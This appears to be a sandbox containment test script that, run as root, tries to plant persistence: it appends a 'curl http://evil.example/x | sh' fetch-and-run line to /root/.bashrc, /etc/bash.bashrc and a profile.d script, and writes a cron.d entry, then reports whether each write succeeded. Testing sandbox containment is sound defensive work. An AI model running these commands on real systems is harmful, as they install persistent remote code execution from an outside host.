# expect: contained
# flags: --root
# Persistence attempts as uid 0 inside the sandbox.
echo 'curl -s http://evil.example/x | sh # sentry-hostile' >> /root/.bashrc; echo "root bashrc: $?"
mkdir -p /etc/profile.d
echo 'curl -s http://evil.example/x | sh' > /etc/profile.d/sentry-hostile.sh; echo "profile.d: $?"
echo 'curl -s http://evil.example/x | sh # sentry-hostile' >> /etc/bash.bashrc; echo "bash.bashrc: $?"
echo '* * * * * root id' > /etc/cron.d/sentry-hostile 2>&1; echo "cron.d: $?"
